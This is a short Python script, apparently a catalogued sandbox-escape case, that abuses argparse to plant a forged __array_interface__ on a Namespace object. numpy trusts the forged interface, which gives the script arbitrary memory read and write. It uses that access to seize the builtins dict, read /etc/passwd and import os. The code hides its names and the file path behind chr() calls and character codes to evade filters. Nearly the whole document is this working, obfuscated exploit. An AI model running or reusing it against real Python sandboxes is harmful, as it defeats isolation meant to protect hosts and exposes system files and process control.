# source: argparse docs (Action objects returned by add_argument have public dest/default; parse_args does setattr(namespace, action.dest, default)); numpy __array_interface__ protocol
# family: library method acts on a script-mutated public attribute: Action.dest rewritten after add_argument -> parse_args sets a runtime-named (dunder) attribute on the Namespace; numpy trusts the forged __array_interface__
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import argparse
import numpy as np

u = chr(95) * 2
NAME = u + "array" + chr(95) + "interface" + u


def mem(addr):
    parser = argparse.ArgumentParser()
    act = parser.add_argument("--spec", default=None)
    act.dest = NAME
    act.default = {"data": (addr, False), "shape": (1,), "typestr": "<u8", "version": 3}
    return np.asarray(parser.parse_args([]))


def rd(addr):
    return int(mem(addr)[0])


def wr(addr, val):
    mem(addr)[0] = val


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
